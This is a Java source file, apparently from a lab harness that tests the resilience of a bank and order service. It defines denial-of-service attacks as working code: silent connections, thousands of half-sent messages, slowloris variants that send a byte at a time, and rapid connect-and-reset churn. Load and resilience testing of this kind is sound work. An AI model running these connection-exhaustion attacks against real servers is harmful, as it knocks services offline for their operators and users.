package org.amo.lab.attack;

import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.util.List;

/** Connections that cost more than they bring: silent, slow, short, torn. */
final class ConnectionAttacks {
    private static final int SLOW = 1_000;
    private static final int BYTES_A_SECOND = 1_500;
    private static final int CHURN_A_SECOND = 600;

    /** Open files reserved for the command itself. */
    private static final int SPARE_FILES = 200;

    private ConnectionAttacks() {}

    static List<Attack> all() {
        return List.of(
                Attack.onAll(
                        "silent-connections",
                        "1,200 connections to the client ports and 600 to the order ports that never say anything",
                        (target, pace) -> open(
                                target, pace, 1_800, i -> i % 3 == 0 ? target.order(i / 3) : target.client(i / 3))),
                Attack.onAll(
                        "many-connections",
                        "5,000 connections to the client ports, each of which sends half of its first message and stops",
                        ConnectionAttacks::many),
                Attack.onBank(
                        "slow-iiop",
                        "slowloris: 1,000 connections, each sends a request of 8 kB a byte at a time",
                        (target, pace) -> slow(pace, target::client, slowRequest(target))),
                Attack.onAll(
                        "slow-order",
                        "slowloris on the order ports: 1,000 connections, a byte at a time",
                        (target, pace) -> slow(pace, target::order, OrderPortAttacks.beginning(target.member(0), 64))),
                Attack.onCounter(
                        "slow-java",
                        "slowloris on the ports of Java clients: 1,000 connections greet a byte at a time",
                        (target, pace) ->
                                slow(pace, target::client, RpcWire.hello(target, new byte[16], new byte[16]))),
                Attack.onAll(
                        "churn",
                        "connections to all ports, closed at once or torn by a reset after half a message, 600 a second",
                        ConnectionAttacks::churn));
    }

    /** Opens one connection of an attack. */
    @FunctionalInterface
    private interface Port {
        Wire open(int index) throws IOException;
    }

    private static void open(Target target, AttackRate pace, int count, Port port) throws InterruptedException {
        int most = affordable(target, count);
        pace.crew(4, most, Math.max(400, most / 4.0), i -> port.open(i));
        pace.hold();
    }

    private static void many(Target target, AttackRate pace) throws InterruptedException {
        byte[] half = half(target);
        open(target, pace, 5_000, i -> target.client(i).send(half));
    }

    /** The first half of a client's first message to the service. */
    private static byte[] half(Target target) {
        byte[] whole = target.service() == Service.BANK
                ? Giop.request(1, new byte[30], "deposit", RawClient.deposit("half"))
                : RpcWire.hello(target, new byte[16], new byte[16]);
        return java.util.Arrays.copyOf(whole, whole.length / 2);
    }

    /** Limits the count to the files that one process may open; the result notes the limit. */
    private static int affordable(Target target, int count) {
        if (ManagementFactory.getOperatingSystemMXBean()
                instanceof com.sun.management.UnixOperatingSystemMXBean system) {
            long free = system.getMaxFileDescriptorCount() - system.getOpenFileDescriptorCount() - SPARE_FILES;
            if (free < count) {
                target.note(
                        "only " + free + " connections of " + count + ": raise the limit of open files (ulimit -n)");
                return (int) Math.max(1, free);
            }
        }
        return count;
    }

    private static void slow(AttackRate pace, Port port, byte[] message) throws InterruptedException {
        Wire[] wires = new Wire[SLOW];
        int[] sent = new int[SLOW];
        pace.each(Integer.MAX_VALUE, BYTES_A_SECOND, i -> {
            int at = i % SLOW;
            Wire wire = wires[at];
            if (wire == null || sent[at] == message.length) {
                wire = port.open(at);
                wires[at] = wire;
                sent[at] = 0;
            }
            try {
                wire.send(new byte[] {message[sent[at]++]});
            } catch (IOException e) {
                wires[at] = null;
                wire.close();
                throw e;
            }
        });
    }

    private static byte[] slowRequest(Target target) throws IOException {
        byte[] key = Giop.objectKey(target.reference());
        return Giop.request(
                1, key, "deposit", out -> out.string("x".repeat(8_000)).longLong(1));
    }

    private static void churn(Target target, AttackRate pace) throws InterruptedException {
        byte[] half = half(target);
        pace.crew(4, Integer.MAX_VALUE, CHURN_A_SECOND, i -> {
            Wire wire = i % 4 == 0 ? target.order(i / 4) : target.client(i / 4);
            if (i / 4 % 2 == 0) {
                wire.close();
            } else {
                wire.send(half).reset();
            }
        });
    }
}
